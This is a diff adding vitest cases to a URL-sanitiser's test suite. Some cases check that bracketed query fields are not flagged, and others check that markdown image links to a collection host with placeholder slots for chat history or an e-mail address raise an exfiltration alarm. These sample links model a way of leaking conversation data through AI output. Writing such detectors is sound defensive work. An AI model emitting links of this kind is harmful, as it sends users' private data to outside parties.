@@ -1,5 +1,7 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
+import { clean } from "../clean.ts";
+import { isAlarm } from "../finding.ts";
 import { judgeCarriage } from "./carries-data.ts";
 import { readAddress, shownAddress } from "./url.ts";
 
@@ -59,3 +61,21 @@ test.each([
 test("and none is seen where there is none", () => {
   expect(judgeCarriage(readAddress("https://a.example/insert_data?d=chat"))).toBe("none");
 });
+
+test.each([
+  "https://api.example/v1/items?filter[name]=x&page[size]=10",
+  "https://api.example/v1/items?fields%5Bmessage%5D=id,text",
+  "https://shop.example/store?delivery=[slow]",
+])("a field inside of another, and a value in brackets, are no holes: %s", (address) => {
+  expect(clean(`See ${address} for more.`).findings.filter(({ severity }) => isAlarm(severity))).toEqual([]);
+});
+
+test.each(["[DATA]", "%5BDATA%5D", "[user", "[insert the e-mail]", "%3Cchat%20history%3E"])(
+  "what a reader is to fill in is one, however it is written: %s",
+  (hole) => {
+    const alarms = clean(`![x](https://collect.example/p?d=${hole})`).findings.filter(({ severity }) =>
+      isAlarm(severity),
+    );
+    expect(alarms.map(({ rule }) => rule)).toContain("markup.exfiltration");
+  },
+);
